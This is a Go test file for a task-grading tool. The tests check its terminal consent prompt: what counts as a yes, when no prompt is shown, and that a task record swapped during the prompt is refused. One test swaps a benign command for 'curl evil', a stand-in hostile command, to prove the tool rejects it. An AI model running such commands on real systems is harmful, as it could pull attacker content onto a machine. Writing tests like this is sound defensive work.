package main

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"podgrade/oci"
	"podgrade/tasks/record/fixture"
)

// terminalPair is a pseudo terminal: what is typed goes into one end, and a
// program has the other.
func terminalPair(t *testing.T) (keyboard, program *os.File) {
	t.Helper()
	keyboard, err := os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
	if err == nil {
		err = unix.IoctlSetPointerInt(int(keyboard.Fd()), unix.TIOCSPTLCK, 0)
	}
	if err != nil {
		t.Fatal(err)
	}
	number, err := unix.IoctlGetInt(int(keyboard.Fd()), unix.TIOCGPTN)
	if err != nil {
		t.Fatal(err)
	}
	program, err = os.OpenFile(fmt.Sprintf("/dev/pts/%d", number), os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { keyboard.Close(); program.Close() })
	return keyboard, program
}

// screen keeps what a program prints on a terminal.
type screen struct {
	mu   sync.Mutex
	text bytes.Buffer
}

func (s *screen) follow(from io.Reader) {
	for chunk := make([]byte, 4096); ; {
		n, err := from.Read(chunk)
		s.mu.Lock()
		s.text.Write(chunk[:n])
		s.mu.Unlock()
		if err != nil {
			return
		}
	}
}

func (s *screen) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.text.String()
}

// atTerminal runs podgrade at a terminal of its own. Once the question is there,
// answer is called and what it returns is typed; "" types nothing. It returns the
// exit code and all that was printed.
func atTerminal(t *testing.T, program string, env []string, answer func() string, args ...string) (int, string) {
	t.Helper()
	keyboard, end := terminalPair(t)
	cmd := exec.Command(program, args...)
	cmd.Env = append(append(os.Environ(), "CI=", oci.EnvInContainer+"="), env...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = end, end, end
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
	// Typed before the question: no answer to it.
	io.WriteString(keyboard, "y\n")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	shown, drained := &screen{}, make(chan struct{})
	go func() {
		defer close(drained)
		shown.follow(keyboard)
	}()
	ended := make(chan error, 1)
	go func() { ended <- cmd.Wait() }()
	over := time.After(2 * time.Minute)
	for asked := false; ; {
		select {
		case <-ended:
			end.Close() // then the keyboard's side ends once all has been read
			<-drained
			return cmd.ProcessState.ExitCode(), shown.String()
		case <-over:
			cmd.Process.Kill()
			t.Fatalf("it does not end:\n%s", shown)
		case <-time.After(10 * time.Millisecond):
			if !asked && strings.Contains(shown.String(), "[y/N]") {
				asked = true
				io.WriteString(keyboard, answer())
			}
		}
	}
}

func consentRow(t *testing.T, form fixture.Form, pin oci.Pin) string {
	t.Helper()
	row, err := fixture.Write(fixture.Order{Task: byod, Form: form, Out: t.TempDir(), Pin: pin})
	if err != nil {
		t.Fatal(err)
	}
	return row
}

// TestAtATerminalNoIsTheDefault: only y and yes are a yes; an empty line, an end of
// input and Ctrl-C are not, nor is what was typed before there was a question.
// Whatever is no starts nothing and leaves every byte.
func TestAtATerminalNoIsTheDefault(t *testing.T) {
	program, err := exec.LookPath("podgrade")
	if err != nil {
		t.Fatal(err)
	}
	config := []string{"XDG_CONFIG_HOME=" + t.TempDir()}
	for name, c := range map[string]struct {
		typed string
		code  int
		verb  string
	}{
		"an empty line": {"\n", 2, "evaluate"}, "n": {"n\n", 2, "evaluate"}, "ye": {"ye\n", 2, "evaluate"}, "yes and more": {"yes please\n", 2, "shell"},
		"the end of input": {"\x04", 2, "evaluate"}, "Ctrl-C": {"\x03", 130, "evaluate"},
	} {
		t.Run(name, func(t *testing.T) {
			row := consentRow(t, fixture.Unpinned, oci.Pin{})
			before, _ := os.ReadFile(filepath.Join(row, "task.json"))
			code, shown := atTerminal(t, program, config, func() string { return c.typed }, c.verb, row)
			if code != c.code || !strings.Contains(shown, "test -f /opt/byod_marker") || !strings.Contains(shown, "what is not there") {
				t.Errorf("exit code %d, want %d:\n%s", code, c.code, shown)
			}
			if after, _ := os.ReadFile(filepath.Join(row, "task.json")); !bytes.Equal(before, after) {
				t.Error("the record was changed")
			}
			if entries, _ := os.ReadDir(row); len(entries) != 2 {
				t.Errorf("the row holds %v", entries)
			}
		})
	}
}

// TestNobodyIsAskedWhereNobodyReads: with --json, in continuous integration, and
// when an option has answered already.
func TestNobodyIsAskedWhereNobodyReads(t *testing.T) {
	program, err := exec.LookPath("podgrade")
	if err != nil {
		t.Fatal(err)
	}
	row, config := consentRow(t, fixture.Unpinned, oci.Pin{}), "XDG_CONFIG_HOME="+t.TempDir()
	for name, c := range map[string]struct{ env, arg string }{
		"--json": {"CI=", "--json"}, "CI": {"CI=true", "--copy"}, "--accept-plan": {"CI=", "--accept-plan=" + strings.Repeat("0", 64)},
	} {
		code, shown := atTerminal(t, program, []string{config, c.env}, func() string { return "y\n" }, "evaluate", c.arg, row)
		if code != 2 || strings.Contains(shown, "[y/N]") {
			t.Errorf("%s: exit code %d:\n%s", name, code, shown)
		}
	}
	// A terminal on one side only.
	_, end := terminalPair(t)
	cmd := exec.Command(program, "evaluate", row)
	cmd.Env, cmd.Stdin = append(os.Environ(), "CI=", config), end
	if out, _ := cmd.CombinedOutput(); strings.Contains(string(out), "[y/N]") || cmd.ProcessState.ExitCode() != 2 {
		t.Errorf("without a terminal to read at: %s", out)
	}
}

// TestAYesIsAboutWhatWasShown: a record that is swapped while somebody reads the
// page asks for something that nobody has agreed to.
func TestAYesIsAboutWhatWasShown(t *testing.T) {
	program, err := exec.LookPath("podgrade")
	if err != nil {
		t.Fatal(err)
	}
	row := consentRow(t, fixture.Unpinned, oci.Pin{})
	file := filepath.Join(row, "task.json")
	text, _ := os.ReadFile(file)
	swapped := bytes.ReplaceAll(text, []byte("test -f /opt/byod_marker"), []byte("curl evil"))
	code, shown := atTerminal(t, program, []string{"XDG_CONFIG_HOME=" + t.TempDir()}, func() string {
		os.WriteFile(file, swapped, 0o644)
		return "yes\n"
	}, "evaluate", row)
	if code != 2 || !strings.Contains(shown, "command: curl evil") {
		t.Errorf("exit code %d:\n%s", code, shown)
	}
	if after, _ := os.ReadFile(file); !bytes.Equal(after, swapped) {
		t.Error("the record was changed")
	}
}

// TestAYesAtATerminalGrades runs the built program on a real cell.
func TestAYesAtATerminalGrades(t *testing.T) {
	row := consentRow(t, fixture.Pinned, byodImage(t))
	code, shown := atTerminal(t, filepath.Join(buildDir(t), "bin", "podgrade"), []string{"XDG_CONFIG_HOME=" + t.TempDir()}, func() string { return "y\n" }, "evaluate", row)
	if code != 0 || !strings.Contains(shown, "SUCCESS, score 1.000, graded in a cell") || strings.Count(shown, "test -f /opt/byod_marker") != 1 {
		t.Errorf("exit code %d:\n%s", code, shown)
	}
}

// TestAResumeGradesByThePlanThatWasAccepted: with --accept-plan a run that is gone
// on with grades no row that asks for anything else, whoever wrote the task file.
func TestAResumeGradesByThePlanThatWasAccepted(t *testing.T) {
	s := executed(t, "cat >made", passing)
	before := s.text(rowRecord)
	out, said := s.podgrade(1, "run", "task.yaml", "--run-dir", "r", "--resume", "--accept-plan", strings.Repeat("0", 64))
	_, hash, found := strings.Cut(out+said, "another plan was accepted than the one that is asked for, which is ")
	if !found || s.text(rowRecord) != before {
		t.Fatalf("%s%s", out, said)
	}
	s.podgrade(0, "run", "task.yaml", "--run-dir", "r", "--resume", "--accept-plan", hash[:64])
	s.is(row, "SUCCESS", 1)
}

// TestALineThatNobodyFinishedIsNoAnswer: an end of input, or a terminal that is
// gone, comes after what was typed of it.
func TestALineThatNobodyFinishedIsNoAnswer(t *testing.T) {
	for typed, want := range map[string]string{"y": "", "yes": "", "": "", "y\n": "y", "no\ny\n": "no"} {
		in, keyboard, err := os.Pipe()
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(keyboard, typed)
		keyboard.Close()
		if line, err := typedLine(t.Context(), in, "nothing"); err != nil || line != want {
			t.Errorf("%q: %q, %v; want %q", typed, line, err, want)
		}
		in.Close()
	}
}
